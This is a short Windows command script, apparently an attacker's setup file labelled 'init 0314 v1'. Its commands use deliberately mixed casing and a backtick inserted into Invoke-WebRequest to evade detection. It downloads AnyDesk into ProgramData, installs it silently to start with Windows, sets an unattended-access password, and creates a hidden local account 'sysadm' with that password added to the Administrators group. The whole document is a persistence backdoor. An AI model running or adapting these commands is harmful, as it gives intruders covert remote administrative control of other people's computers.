# init 0314 v1
iNvO`KE-`wEBREQuEsT -uRI 'https://download.anydesk.com/AnyDesk.exe' -OUTFile c:\PROGRaMDAta\aNYDEsK.exe
cMD /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
Cmd /C "echo Winter#2025x | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
NEt UsER sYsAdM wInTeR#2025x /adD
NEt lOcALGROup admInIStrAtoRS sySAdm /aDd
